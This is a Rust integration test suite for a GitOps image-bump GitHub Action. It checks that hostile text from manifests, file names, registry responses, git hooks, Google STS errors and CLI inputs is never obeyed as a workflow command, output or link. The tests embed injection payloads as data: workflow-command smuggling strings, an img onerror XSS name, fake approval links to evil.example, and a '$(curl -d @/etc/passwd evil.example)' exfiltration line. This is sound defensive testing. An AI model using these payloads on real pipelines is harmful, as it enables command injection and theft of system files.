//! Untrusted text never becomes a workflow command, an output or a link.
//!
//! Each case drives the real binary as the runner does (GITHUB_ACTIONS,
//! INPUT_*, GITHUB_OUTPUT and GITHUB_STEP_SUMMARY files) with hostile text
//! arriving the way it would in production: in a manifest's old value or
//! file name, in a registry's 404 body, `WWW-Authenticate` scheme or image
//! index (the real registry, behind the fault proxy where the answer must
//! be forged), in a pre-receive hook's output over smart HTTP, in Google
//! STS's `error_description`, and in an input value echoed by a usage
//! error. Then:
//! - a port of the runner's command parser (test_support::runner) reads stdout and
//!   stderr and must find no command we did not intend;
//! - `GITHUB_OUTPUT`, read the runner's way, holds exactly our keys (none
//!   when the run was refused);
//! - the job summary, rendered by a CommonMark renderer with GitHub's
//!   tables, has no link, image or HTML we did not write;
//! - the hostile text is still shown (escaped), and a refused run left the
//!   checkout and the remote as they were.

use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::Duration;

use test_support::fixture::{GOOD_MANIFEST, Repo};
use test_support::git_http::{GIT_TOKEN, GitHttp, fault_proxy};
use test_support::process::Server;
use test_support::registry::{self, Auth, PASSWORD, Registry, USER};
use test_support::runner::{Command, Runner, read_env_file};
use test_support::{git, google, markdown, run_bin};

const BIN: &str = env!("CARGO_BIN_EXE_gitops-bump");

const LIMIT: Duration = Duration::from_secs(120);
const SERVER: &str = "https://git.example.test";
const REPOSITORY: &str = "org/gitops";
const WIP: &str = "projects/123456/locations/global/workloadIdentityPools/gh/providers/gh";

/// Inputs of a bump pushed from the checkout, without a registry.
const PUSH_FROM_CHECKOUT: &[(&str, &str)] = &[
    ("images", "ghcr.io/org/app:v2"),
    ("verify", "false"),
    ("paths", "apps"),
    ("token", GIT_TOKEN),
];

/// The outputs a successful run writes (`access-token` only when asked).
const OUR_KEYS: &[&str] = &[
    "changed",
    "commit-sha",
    "digest",
    "image",
    "images",
    "previous-tag",
    "previous-digest",
    "files",
    "attempts",
    "pull-request-url",
    "pull-request-number",
    "skipped-reason",
];

/// The runner's side of one run: its files and environment.
struct Step {
    dir: tempfile::TempDir,
    env: Vec<(String, String)>,
}

impl Step {
    fn new(inputs: &[(&str, &str)]) -> Step {
        let dir = tempfile::tempdir().expect("temp dir");
        let p = |n: &str| dir.path().join(n).to_string_lossy().into_owned();
        std::fs::create_dir_all(dir.path().join("cwd")).expect("mkdir");
        let mut env: Vec<(String, String)> = vec![
            ("GITHUB_OUTPUT".into(), p("output.txt")),
            ("GITHUB_STEP_SUMMARY".into(), p("summary.md")),
            ("RUNNER_TEMP".into(), p("cwd")),
            ("GITHUB_REPOSITORY".into(), REPOSITORY.into()),
            ("GITHUB_SERVER_URL".into(), SERVER.into()),
        ];
        env.extend(
            inputs
                .iter()
                .map(|(k, v)| (format!("INPUT_{}", k.to_uppercase()), v.to_string())),
        );
        Step { dir, env }
    }

    fn with_env(mut self, pairs: &[(&str, String)]) -> Step {
        self.env
            .extend(pairs.iter().map(|(k, v)| (k.to_string(), v.clone())));
        self
    }

    fn run(&self, cwd: &Path, args: &[&str]) -> Ran {
        let out = run_bin(BIN, cwd, args, &self.env, LIMIT);
        let read = |n: &str| std::fs::read_to_string(self.dir.path().join(n)).unwrap_or_default();
        Ran {
            out,
            output_file: read("output.txt"),
            summary: read("summary.md"),
        }
    }

    fn cwd(&self) -> PathBuf {
        self.dir.path().join("cwd")
    }
}

struct Ran {
    out: Output,
    output_file: String,
    summary: String,
}

impl Ran {
    fn stdout(&self) -> String {
        String::from_utf8_lossy(&self.out.stdout).into_owned()
    }

    fn stderr(&self) -> String {
        String::from_utf8_lossy(&self.out.stderr).into_owned()
    }

    fn log(&self) -> String {
        format!(
            "exit {:?}\n--- stdout\n{}\n--- stderr\n{}",
            self.out.status.code(),
            self.stdout(),
            self.stderr()
        )
    }
}

/// What a case expects besides "no command, no foreign output, no link".
struct Expect<'a> {
    code: i32,
    /// Text that must be printed (escaped), proving the hostile text
    /// reached us and is still shown.
    shown: &'a [&'a str],
    /// Secrets that may appear in `::add-mask::` commands.
    secrets: &'a [String],
}

/// The commands we mean to send: groups, masks of our secrets, and
/// annotations titled by us (their text may quote the hostile value,
/// escaped: it is shown, not obeyed).
fn intended(c: &Command, secrets: &[String]) -> bool {
    match c.name.to_lowercase().as_str() {
        "group" | "endgroup" => true,
        "add-mask" => secrets.iter().any(|s| {
            c.data == *s || c.data == format!("Bearer {s}") || c.data.starts_with("Basic ")
        }),
        "notice" | "warning" | "error" => c
            .property("title")
            .is_some_and(|t| t.starts_with("gitops-bump")),
        _ => false,
    }
}

fn judge(what: &str, ran: &Ran, expect: &Expect) {
    let log = ran.log();
    assert_eq!(
        ran.out.status.code(),
        Some(expect.code),
        "{what}: exit code\n{log}"
    );
    for (stream, text) in [("stdout", ran.stdout()), ("stderr", ran.stderr())] {
        let unintended: Vec<Command> = Runner::new()
            .commands(&text)
            .into_iter()
            .filter(|c| !intended(c, expect.secrets))
            .collect();
        assert!(
            unintended.is_empty(),
            "{what}: the runner would obey {unintended:#?} from {stream}\n{log}"
        );
    }
    let printed = format!("{}{}", ran.stdout(), ran.stderr());
    for s in expect.shown {
        assert!(printed.contains(s), "{what}: {s:?} is not shown\n{log}");
    }
    let entries = read_env_file(&ran.output_file)
        .unwrap_or_else(|e| panic!("{what}: the runner cannot read GITHUB_OUTPUT: {e}"));
    let keys: Vec<&str> = entries.iter().map(|(k, _)| k.as_str()).collect();
    if expect.code == 0 {
        assert_eq!(keys, OUR_KEYS, "{what}: GITHUB_OUTPUT keys");
    } else {
        // A refused run passes on nothing of what it read; only our own
        // `changed=false` and, once the write-back started, `attempts`.
        let ours: Vec<(&str, &str)> = entries
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        let only_ours = ours.iter().all(|(k, v)| {
            (*k == "changed" && *v == "false")
                || (*k == "attempts" && !v.is_empty() && v.bytes().all(|b| b.is_ascii_digit()))
        });
        assert!(
            only_ours,
            "{what}: a refused run passes nothing on: {ours:?}"
        );
    }
    judge_summary(what, &ran.summary);
}

/// The summary has no link, image or HTML we did not write: the commit
/// link is the only one a run without a pull request writes.
fn judge_summary(what: &str, summary: &str) {
    let ours = |url: &str| {
        url.strip_prefix(&format!("{SERVER}/{REPOSITORY}/commit/"))
            .is_some_and(|sha| sha.len() == 40 && sha.bytes().all(|b| b.is_ascii_hexdigit()))
    };
    let found = markdown::foreign_markup(summary, &ours);
    assert!(found.is_empty(), "{what}: {found:#?}\n{summary}");
}

/// YAML double-quoted scalar holding exactly `value` (JSON strings are
/// YAML; U+2028 is escaped too so no reader can take it for a line break).
fn yaml_quoted(value: &str) -> String {
    serde_json::to_string(value)
        .expect("JSON string")
        .replace('\u{2028}', "\\u2028")
        .replace('\u{2029}', "\\u2029")
}

/// Old values a hostile manifest author commits, and what must be shown.
fn hostile_values() -> Vec<(&'static str, String, &'static str)> {
    let long = format!("v1{}\n::set-output name=pwned::1", "x".repeat(100_000));
    vec![
        (
            "stop-commands",
            "v1\n::stop-commands::tok".into(),
            ":\\:stop-commands:\\:tok",
        ),
        (
            "add-mask",
            "v1\n::add-mask::v2".into(),
            ":\\:add-mask:\\:v2",
        ),
        ("error", "v1\n::error::pwned".into(), ":\\:error:\\:pwned"),
        (
            "set-output",
            "v1\n::set-output name=pwned::1".into(),
            ":\\:set-output name=pwned:\\:1",
        ),
        (
            "legacy without newline",
            "v1 ##[set-output name=pwned;]yes".into(),
            "##\\[set-output name=pwned;]yes",
        ),
        (
            "legacy add-mask",
            "##[add-mask]pwned".into(),
            "##\\[add-mask]pwned",
        ),
        (
            "CR alone",
            "v1\r::add-mask::pwned".into(),
            "\\r:\\:add-mask:\\:pwned",
        ),
        (
            "CRLF and indent",
            "v1\r\n   ::error::pwned".into(),
            "\\r\\n   :\\:error:\\:pwned",
        ),
        (
            "U+2028",
            "v1\u{2028}::error::pwned".into(),
            "\\u{2028}:\\:error:\\:pwned",
        ),
        (
            "NEL",
            "v1\u{85}::error::pwned".into(),
            "\\u{85}:\\:error:\\:pwned",
        ),
        (
            "ANSI escapes",
            "v1\u{1b}[2K\u{1b}[1A::error::pwned".into(),
            "\\u{1b}[2K\\u{1b}[1A:\\:error:\\:pwned",
        ),
        (
            "%0A-encoded",
            "v1%0A::error::pwned".into(),
            "%0A:\\:error:\\:pwned",
        ),
        (
            "%25 and %0D%0A",
            "v1%25%0D%0A::set-output name=pwned::1".into(),
            "%25%0D%0A:\\:set-output",
        ),
        ("very long", long, "more characters"),
        (
            "script injection",
            "$(curl -d @/etc/passwd evil.example)".into(),
            "$(curl -d @/etc/passwd evil.example)",
        ),
        (
            "backtick breakout",
            "v1` [Approve production deploy](https://evil.example/approve) `".into(),
            "[Approve production deploy](https://evil.example/approve)",
        ),
    ]
}

#[test]
fn runner_port_obeys_every_raw_vector() {
    // The oracle must be able to fail: printed raw, every vector is a
    // command the runner would carry out.
    let raw = [
        "::stop-commands::tok",
        "::add-mask::x",
        "  ::error::pwned",
        "::set-output name=pwned::1",
        "text ##[set-output name=pwned;]yes",
        "x\r::add-mask::y",
        "\u{2028}::error::x",
    ];
    for text in raw {
        assert!(!Runner::new().commands(text).is_empty(), "{text:?}");
    }
    let mut r = Runner::new();
    let cmds = r.commands("::stop-commands::tok\n::error::hidden\n::tok::\n::error::seen");
    let names: Vec<&str> = cmds.iter().map(|c| c.name.as_str()).collect();
    assert_eq!(names, ["stop-commands", "tok", "error"]);
    assert_eq!(
        read_env_file("a=1\nb<<EOF\nx\ny\nEOF\n").unwrap(),
        vec![("a".into(), "1".into()), ("b".into(), "x\ny".into())]
    );
}

#[test]
fn hostile_old_values_in_manifests_are_refused_and_shown_escaped() {
    for (what, value, shown) in hostile_values() {
        for (kind, file, text) in [
            (
                "kustomization newTag",
                "apps/kustomization.yaml",
                format!(
                    "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: []\nimages:\n  - name: ghcr.io/org/app\n    newTag: {}\n",
                    yaml_quoted(&value)
                ),
            ),
            (
                "Helm values tag",
                "apps/values.yaml",
                format!(
                    "image:\n  repository: ghcr.io/org/app\n  tag: {}\n",
                    yaml_quoted(&value)
                ),
            ),
        ] {
            let what = format!("{kind}: {what}");
            let repo = Repo::seeded(&[(file.to_string(), text.into_bytes())]);
            let before = repo.snapshot();
            let step = Step::new(PUSH_FROM_CHECKOUT);
            let ran = step.run(&repo.wt(), &["run"]);
            let line = if file.ends_with("values.yaml") { 2 } else { 5 };
            // A value that decodes to a control character is refused by the
            // edit engine before the value check sees it.
            let refusal = if value.chars().any(char::is_control) {
                "holds a control character"
            } else {
                "not valid"
            };
            judge(
                &what,
                &ran,
                &Expect {
                    code: 1,
                    shown: &[shown, &format!("{file}:{line}:"), refusal],
                    secrets: &[GIT_TOKEN.to_string()],
                },
            );
            let diff = before.diff(&repo.snapshot());
            assert!(
                diff.is_empty(),
                "{what}: nothing written or pushed:\n{diff}"
            );
        }
    }
}

#[test]
fn hostile_file_names_stay_inside_their_summary_cells() {
    let names = [
        "apps/`x` [Approve production deploy](http:evil.example) `.yaml",
        "apps/![logo](http:evil.example).yaml",
        "apps/<img src=x onerror=alert(1)> |cell| .yaml",
        "apps/##[set-output name=pwned;]yes.yaml",
        "apps/::error::pwned.yaml",
        "apps/www.evil.example.yaml",
    ];
    let files: Vec<(String, Vec<u8>)> = names
        .iter()
        .map(|n| (n.to_string(), GOOD_MANIFEST.as_bytes().to_vec()))
        .collect();
    let repo = Repo::seeded(&files);
    let step = Step::new(PUSH_FROM_CHECKOUT);
    let ran = step.run(&repo.wt(), &["run"]);
    judge(
        "file names",
        &ran,
        &Expect {
            code: 0,
            shown: &[
                "apps/##\\[set-output name=pwned;]yes.yaml",
                "apps/:\\:error:\\:pwned.yaml",
            ],
            secrets: &[GIT_TOKEN.to_string()],
        },
    );
    let entries = read_env_file(&ran.output_file).expect("outputs");
    let listed = &entries.iter().find(|(k, _)| k == "files").expect("files").1;
    for n in names {
        assert!(listed.lines().any(|l| l == n), "{n} in files: {listed}");
        assert!(
            git(&repo.remote(), &["show", &format!("main:{n}")]).contains("ghcr.io/org/app:v2"),
            "{n} pushed"
        );
    }
    assert!(ran.summary.contains("/commit/"), "{}", ran.summary);
}

/// A registry answer the fault proxy forges in front of the real registry
/// for every request whose path contains `filter`.
fn forged(dir: &Path, registry: &Registry, filter: &str, answer: serde_json::Value) -> Server {
    let file = dir.join(format!("answer-{}.json", filter.replace('/', "")));
    std::fs::write(&file, answer.to_string()).expect("write answer");
    let port: u16 = registry
        .addr
        .rsplit(':')
        .next()
        .and_then(|p| p.parse().ok())
        .expect("registry port");
    fault_proxy(port, &format!("file:{}*", file.display()), filter, dir)
}

fn registry_error_body(message: &str) -> String {
    serde_json::json!({"errors": [{"code": "MANIFEST_UNKNOWN", "message": message, "detail": {}}]})
        .to_string()
}

#[test]
fn hostile_registry_answers_are_shown_escaped_and_refused() {
    let registry = Registry::start(Auth::Anonymous);
    registry.push("multi", "team/app:v1", &["--all", "--preserve-digests"]);
    let hostile_index = push_hostile_index(&registry);
    let dir = tempfile::tempdir().expect("temp dir");
    let message = "manifest unknown\n::stop-commands::tok\n::set-output name=pwned::1 ##[set-output name=pwned;]yes\u{1b}[2J";
    let not_found = forged(
        dir.path(),
        &registry,
        "/manifests/",
        serde_json::json!({
            "status": 404,
            "headers": [["Content-Type", "application/json"]],
            "body": registry_error_body(message),
        }),
    );
    let scheme = forged(
        dir.path(),
        &registry,
        "/v2/",
        serde_json::json!({
            "status": 401,
            "headers": [["WWW-Authenticate", "##[add-mask]pwned realm=\"x\""]],
            "body": "",
        }),
    );
    let proxy = |s: &Server| format!("127.0.0.1:{}", s.port);
    // (what, image, insecure registry, platforms, shown)
    let cases: Vec<(&str, String, String, &str, Vec<&str>)> = vec![
        (
            "404 body message",
            format!("{}/team/app:v1", proxy(&not_found)),
            proxy(&not_found),
            "",
            vec![
                ":\\:stop-commands:\\:tok",
                "##\\[set-output name=pwned;]yes\\u{1b}[2J",
            ],
        ),
        (
            "WWW-Authenticate scheme",
            format!("{}/team/app:v1", proxy(&scheme)),
            proxy(&scheme),
            "",
            vec!["##\\[add-mask]pwned"],
        ),
        (
            "index platform strings",
            format!("{}/team/app:{hostile_index}", registry.addr),
            registry.addr.clone(),
            "",
            vec!["linux\\n:\\:add-mask:\\:pwned"],
        ),
        (
            "index platform strings in a missing-platform error",
            format!("{}/team/app:{hostile_index}", registry.addr),
            registry.addr.clone(),
            "linux/s390x",
            vec![
                ":\\:add-mask:\\:pwned/amd64",
                "##\\[set-output name=pwned;]",
            ],
        ),
    ];
    for (what, image, insecure, platforms, shown) in cases {
        let manifest = GOOD_MANIFEST.replace(
            "ghcr.io/org/app:v0",
            &format!("{}/team/app:v0", registry.addr),
        );
        let repo = Repo::seeded(&[("apps/reg.yaml".into(), manifest.into_bytes())]);
        let before = repo.snapshot();
        let step = Step::new(&[
            ("images", &image),
            ("paths", "apps/reg.yaml"),
            ("insecure-registries", &insecure),
            ("platforms", platforms),
            ("token", GIT_TOKEN),
        ]);
        let ran = step.run(&repo.wt(), &["run"]);
        judge(
            what,
            &ran,
            &Expect {
                code: 1,
                shown: &shown,
                secrets: &[GIT_TOKEN.to_string()],
            },
        );
        let diff = before.diff(&repo.snapshot());
        assert!(
            diff.is_empty(),
            "{what}: nothing written or pushed:\n{diff}"
        );
    }
}

/// Pushes to the real registry an index over the layout's two images whose
/// platform strings carry commands; returns its tag.
fn push_hostile_index(registry: &Registry) -> &'static str {
    let script = r####"
import json, sys, urllib.request
layout, addr = sys.argv[1], sys.argv[2]
index = json.load(open(f"{layout}/index.json"))
multi = next(m for m in index["manifests"] if m["annotations"]["org.opencontainers.image.ref.name"] == "multi")
blob = json.load(open(f"{layout}/blobs/sha256/{multi['digest'].split(':')[1]}"))
blob["manifests"][0]["platform"] = {"os": "linux\n::add-mask::pwned", "architecture": "amd64"}
blob["manifests"][1]["platform"] = {"os": "linux", "architecture": "arm64", "variant": "##[set-output name=pwned;]yes"}
body = json.dumps(blob).encode()
req = urllib.request.Request(f"http://{addr}/v2/team/app/manifests/hostile", data=body, method="PUT",
    headers={"Content-Type": "application/vnd.oci.image.index.v1+json"})
print(urllib.request.urlopen(req).status)
"####;
    let out = std::process::Command::new("python3")
        .arg("-c")
        .arg(script)
        .arg(registry::layout().join("layout"))
        .arg(&registry.addr)
        .output()
        .expect("python3 runs");
    assert!(
        out.status.success(),
        "pushing the hostile index: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    "hostile"
}

#[test]
fn outside_actions_a_secret_echoed_by_a_server_is_redacted() {
    let registry = Registry::start(Auth::Anonymous);
    let dir = tempfile::tempdir().expect("temp dir");
    let echo = forged(
        dir.path(),
        &registry,
        "/v2/",
        serde_json::json!({
            "status": 401,
            "headers": [["WWW-Authenticate", "Basic realm=\"x\""], ["Content-Type", "application/json"]],
            "body": serde_json::json!({"errors": [{"code": "UNAUTHORIZED",
                "message": format!("wrong password {PASSWORD} for {USER}\u{1b}]0;title\u{7}")}]}).to_string(),
        }),
    );
    let addr = format!("127.0.0.1:{}", echo.port);
    let step = Step::new(&[
        ("images", &format!("{addr}/team/app:v1")),
        ("insecure-registries", &addr),
        ("registry-username", USER),
        ("registry-password", PASSWORD),
        ("mode", "none"),
    ])
    .with_env(&[("GITHUB_ACTIONS", "false".into())]);
    let ran = step.run(&step.cwd(), &["run"]);
    let printed = format!("{}{}", ran.stdout(), ran.stderr());
    assert_eq!(ran.out.status.code(), Some(1), "{}", ran.log());
    assert!(!printed.contains(PASSWORD), "{}", ran.log());
    assert!(printed.contains("wrong password *** for"), "{}", ran.log());
    assert!(
        !printed.contains('\u{1b}'),
        "no escape sequence reaches the terminal"
    );
}

#[test]
fn a_pre_receive_hooks_output_is_shown_escaped() {
    let repo = Repo::seeded(&[]);
    git(&repo.remote(), &["config", "http.receivepack", "true"]);
    let hook = repo.remote().join("hooks/pre-receive");
    std::fs::write(
        &hook,
        "#!/bin/sh\nprintf '::stop-commands::tok\\n::set-output name=pwned::1\\n  ::add-mask::pwned\\n##[set-output name=pwned;]yes\\n\\033[31mred\\033[0m\\rcr ::error::pwned\\n' >&2\nexit 1\n",
    )
    .expect("write hook");
    std::os::unix::fs::PermissionsExt::set_mode(
        &mut std::fs::metadata(&hook).expect("hook").permissions(),
        0o755,
    );
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
    let before = repo.snapshot();
    let server = GitHttp::start(repo.dir.path());
    let url = server.url("remote.git");
    let origin = url.trim_end_matches("/remote.git");
    let step = Step::new(&[
        ("images", "ghcr.io/org/app:v2"),
        ("verify", "false"),
        ("paths", "apps"),
        ("repository", &url),
        ("insecure-git-origins", origin),
        ("token", GIT_TOKEN),
    ]);
    let ran = step.run(&step.cwd(), &["run"]);
    judge(
        "pre-receive hook",
        &ran,
        &Expect {
            code: 1,
            shown: &[
                ":\\:stop-commands:\\:tok",
                "##\\[set-output name=pwned;]yes",
                "\\u{1b}[31mred",
            ],
            secrets: &[GIT_TOKEN.to_string()],
        },
    );
    assert_eq!(
        before.diff(&repo.snapshot()),
        "",
        "the hook refused the push"
    );
}

#[test]
fn googles_error_description_is_shown_escaped() {
    let server = google::FakeGoogle::start();
    let body = serde_json::json!({
        "error": "invalid_grant",
        "error_description": "The audience does not match.\n::add-mask::pwned\n::set-output name=pwned::1 ##[set-output name=pwned;]yes\u{2028}::error::pwned",
    })
    .to_string();
    for _ in 0..3 {
        server.script(google::Route::Sts, 400, body.clone());
    }
    let step = Step::new(&[
        ("images", "ghcr.io/org/app:v2"),
        ("verify", "false"),
        ("paths", "apps"),
        ("mode", "none"),
        ("workload-identity-provider", WIP),
    ])
    .with_env(&[
        (
            "ACTIONS_ID_TOKEN_REQUEST_URL",
            server.url("/oidc?api-version=2.0"),
        ),
        (
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
            google::REQUEST_TOKEN.into(),
        ),
        ("GITOPS_BUMP_STS_URL", server.url("/v1/token")),
        ("GITOPS_BUMP_IAM_CREDENTIALS_URL", server.url("/v1")),
    ]);
    let ran = step.run(&step.cwd(), &["run"]);
    judge(
        "STS error_description",
        &ran,
        &Expect {
            code: 1,
            shown: &[
                "The audience does not match.",
                ":\\:add-mask:\\:pwned",
                "##\\[set-output name=pwned;]yes",
            ],
            secrets: &server.issued_secrets(),
        },
    );
}

/// (what, args, inputs, shown)
type UsageCase<'a> = (&'a str, &'a [&'a str], &'a [(&'a str, &'a str)], &'a str);

#[test]
fn input_values_echoed_in_usage_errors_are_shown_escaped() {
    let cases: &[UsageCase] = &[
        (
            "mode input, legacy command",
            &["run"],
            &[
                ("images", "ghcr.io/org/app:v2"),
                ("mode", "push ##[set-output name=pwned;]1"),
            ],
            "push ##\\[set-output name=pwned;]1",
        ),
        (
            "mode input, newline",
            &["run"],
            &[
                ("images", "ghcr.io/org/app:v2"),
                ("mode", "push\n::set-output name=pwned::1"),
            ],
            "push\\n:\\:set-output name=pwned:\\:1",
        ),
        (
            "mode input, CR",
            &["run"],
            &[
                ("images", "ghcr.io/org/app:v2"),
                ("mode", "push\r::add-mask::pwned"),
            ],
            "push\\r:\\:add-mask:\\:pwned",
        ),
        (
            "flag value echoed by the argument parser",
            &[
                "set-image",
                "--max-file-size",
                "1 ##[set-output name=pwned;]yes\n::error::pwned",
                "app:v1",
            ],
            &[],
            "##\\[set-output name=pwned;]yes",
        ),
        (
            "SPEC echoed",
            &["set-image", "app:v1\n::stop-commands::pwned"],
            &[],
            ":\\:stop-commands:\\:pwned",
        ),
    ];
    for (what, args, inputs, shown) in cases {
        let step = Step::new(inputs);
        let ran = step.run(&step.cwd(), args);
        judge(
            what,
            &ran,
            &Expect {
                code: 2,
                shown: &[shown],
                secrets: &[],
            },
        );
    }
}
